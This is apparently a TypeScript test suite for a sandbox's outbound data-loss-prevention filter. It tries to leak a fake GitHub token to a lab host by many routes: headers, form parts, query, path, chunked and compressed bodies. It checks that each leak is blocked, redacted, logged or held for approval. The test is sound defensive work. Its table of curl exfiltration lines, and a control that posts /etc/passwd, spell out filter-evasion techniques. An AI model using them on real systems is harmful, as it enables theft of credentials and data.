import { brotliCompressSync, deflateSync, zstdCompressSync } from "node:zlib";
import type { Sandbox } from "@sandboxer/sdk";
import { afterAll, beforeAll, beforeEach, expect, it, vi } from "vitest";
import { requires } from "../capabilities/requires.ts";
import { KEY, MODEL } from "./lab/keys.ts";
import { WORLD } from "./lab/lab.ts";
import { type Bench, openBench, text } from "./lab/sandbox.ts";

const { describe } = await requires("linux-userns", "boxd", "egress-lab");

vi.setConfig({ testTimeout: 120_000 });

/** Made up here; it never was anybody's. */
const FOUND = `ghp_${"aB3".repeat(12)}`;

describe("EG-18 what leaves is looked through", () => {
  let bench: Bench;
  let sandbox: Sandbox;
  beforeAll(async () => {
    bench = await openBench();
    for (const name of ["model.test", "open.test"]) await bench.lab.name(name, [WORLD]);
    const place = { in: "body" as const, name: "/auth" };
    const bindings = [MODEL, { ...MODEL, paths: ["/json"], place }];
    await bench.client.secrets.set("MODEL_KEY", { value: KEY, bindings });
    sandbox = await make("block");
  });
  afterAll(() => bench.close());
  beforeEach(() => bench.lab.clear());

  const make = async (onMatch: "block" | "redact" | "ask" | "log", undecodable?: "allow") => {
    const rules = [
      { host: "model.test" },
      { host: "open.test" },
      { host: "open.test", protocol: "http" as const },
    ];
    const dlp = { onMatch, ...(undecodable && { undecodable }) };
    const made = await bench.sandbox({ rules, dlp }, { secrets: ["MODEL_KEY"] });
    const found = Buffer.from(`${"x".repeat(9_000)} ${FOUND} y`);
    const files = { found, "found.br": brotliCompressSync(found), "found.deflate": deflateSync(found) };
    for (const [name, bytes] of Object.entries({ ...files, "found.zstd": zstdCompressSync(found) })) {
      await made.files.write(`/home/user/${name}`, [bytes]);
    }
    return made;
  };
  const code = async (one: Sandbox, line: string) => {
    const all = `curl -s -o /dev/null --max-time 60 -w '%{http_code}' ${line}`;
    return text((await one.run(["sh", "-c", all])).stdout);
  };
  const requests = async () => (await bench.lab.look()).records.filter(({ kind }) => kind === "request");

  const LEAKS: Record<string, string> = {
    "a body": "--data-binary @found https://open.test/x",
    "a body in chunks": "-H 'transfer-encoding: chunked' --data-binary @found https://open.test/x",
    "a part of a form": "-F file=@found https://open.test/x",
    "the name of a part": `-F '${FOUND}=x' https://open.test/x`,
    "a header of a part": `-F 'file=x;headers="X-Note: ${FOUND}"' https://open.test/x`,
    "a member's name": `-H 'content-type: application/json' -d '{"${FOUND}":1}' https://open.test/x`,
    "a header's name": `-H '${FOUND}: x' https://open.test/x`,
    "a header beside a secret in its place": `-H "x-api-key: $MODEL_KEY ${FOUND}" https://model.test/v1/x`,
    "a body beside a secret in its place": `-H 'content-type: application/json' -d "{\\"auth\\":\\"$MODEL_KEY\\",\\"n\\":\\"${FOUND}\\"}" https://model.test/json`,
    "a body without TLS": "--data-binary @found http://open.test/x",
    "a file's name": `-F 'file=@/etc/hostname;filename=${FOUND}' https://open.test/x`,
    "a header": `-H 'x-note: ${FOUND}' https://open.test/x`,
    "the query": `'https://open.test/x?q=${FOUND}'`,
    "the path": `https://open.test/${FOUND}`,
    "a packed body": "-H 'content-encoding: gzip' --data-binary @packed https://open.test/x",
    "a body packed by brotli": "-H 'content-encoding: br' --data-binary @found.br https://open.test/x",
    "a body packed by deflate":
      "-H 'content-encoding: deflate' --data-binary @found.deflate https://open.test/x",
    "a body packed by zstd": "-H 'content-encoding: zstd' --data-binary @found.zstd https://open.test/x",
    "a body packed twice": "-H 'content-encoding: gzip, br' --data-binary @packed https://open.test/x",
    "a placeholder in a packed body":
      "-H 'content-encoding: gzip' --data-binary @packed-own https://open.test/x",
    "a body packed as nobody can read":
      "-H 'content-encoding: exotic' --data-binary hello https://open.test/x",
    "a body that is not what it says": "-H 'content-encoding: gzip' --data-binary hello https://open.test/x",
  };
  it.each(Object.entries(LEAKS))("and stopped: %s", async (_, line) => {
    await sandbox.run(["sh", "-c", 'gzip -c found > packed; printf %s "$MODEL_KEY" | gzip -c > packed-own']);
    expect(await code(sandbox, line)).toBe("403");
    expect(await requests()).toEqual([]);
  });

  it("and stopped: a body that comes byte by byte", async () => {
    const post = async (word: string) => {
      const script = `
import http.client
one = http.client.HTTPSConnection("open.test", timeout=20)
one.request("POST", "/x", (bytes([b]) for b in b"before ${word} after"), encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
print(one.getresponse().status)`;
      return text((await sandbox.run(["python3", "-c", script])).stdout);
    };
    expect(await post(FOUND)).toBe("403\n");
    expect(await requests()).toEqual([]);
    expect(await post("nothing"), "control").toBe("200\n");
    expect((await requests()).map(({ body }) => body)).toEqual(["before nothing after"]);
  });

  it("what cannot be unpacked passes where the rules say so, and only there", async () => {
    const open = await make("block", "allow");
    const exotic = "-H 'content-encoding: exotic' --data-binary hello https://open.test/x";
    expect([await code(sandbox, exotic), await code(open, exotic)]).toEqual(["403", "200"]);
    expect(await code(open, "--data-binary @found https://open.test/x"), "and nothing else").toBe("403");
    expect(await requests()).toHaveLength(1);
  });

  it("control: what holds nothing of the kind passes, packed or not, and so does a secret in its place", async () => {
    await bench.lab.accept(KEY);
    expect(await code(sandbox, "--data-binary @/etc/passwd https://open.test/x")).toBe("200");
    await sandbox.run(["sh", "-c", "gzip -c /etc/passwd > fine"]);
    expect(await code(sandbox, "-H 'content-encoding: gzip' --data-binary @fine https://open.test/x")).toBe(
      "200",
    );
    expect(await code(sandbox, '-H "x-api-key: $MODEL_KEY" -d {} https://model.test/v1/messages')).toBe(
      "200",
    );
    expect(await requests()).toHaveLength(3);
  });

  it("written down, blacked out, or asked about, as the rules say", async () => {
    const [log, redact, ask] = [await make("log"), await make("redact"), await make("ask")];
    expect(await code(log, "--data-binary @found https://open.test/log")).toBe("200");
    expect(await code(redact, `-H 'x-note: ${FOUND}' --data-binary @found https://open.test/redact`)).toBe(
      "200",
    );
    const waiting = code(ask, "--data-binary @found https://open.test/ask");
    await expect.poll(async () => (await bench.client.approvals.list({ state: "pending" })).length).toBe(1);
    const [question] = await bench.client.approvals.list({ state: "pending" });
    expect(question?.action).toMatchObject({ kind: "request", rule: "dlp/github-token", path: "/ask" });
    const forever = bench.client.approvals.approve(question?.id ?? "", "sandbox");
    await expect(forever, "no rule would say so").rejects.toMatchObject({ code: "invalid_request" });
    await bench.client.approvals.deny(question?.id ?? "");
    expect(await waiting).toBe("403");
    const [logged, redacted, ...more] = await requests();
    expect(logged?.body).toContain(FOUND);
    expect(JSON.stringify(redacted)).not.toContain(FOUND);
    expect(redacted?.body).toHaveLength(logged?.body?.length ?? 0);
    expect(more).toEqual([]);
    const caught = async () =>
      (await bench.client.events.list({ limit: 1_000 })).filter(({ type }) => type === "egress.caught");
    await expect
      .poll(async () => (await caught()).map(({ sandboxId }) => sandboxId))
      .toEqual(expect.arrayContaining([log.id, redact.id, ask.id]));
    expect(JSON.stringify(await caught())).not.toContain(FOUND);
  });

  it("a profile's is not its requests' to leave out", async () => {
    const network = { egress: "guarded" as const, rules: [{ host: "open.test" }], dlp: {} };
    await bench.client.profiles.publish({
      schema: 1,
      name: "watched",
      network: { ...network, dlp: { onMatch: "block" } },
    } as never);
    const made = await bench.client.sandboxes.create({
      profile: "watched",
      network: { egress: "guarded", rules: [{ host: "open.test" }], dlp: { onMatch: "log" } },
    });
    expect(made.info.spec.network).toMatchObject({ dlp: { onMatch: "block" } });
  });
});
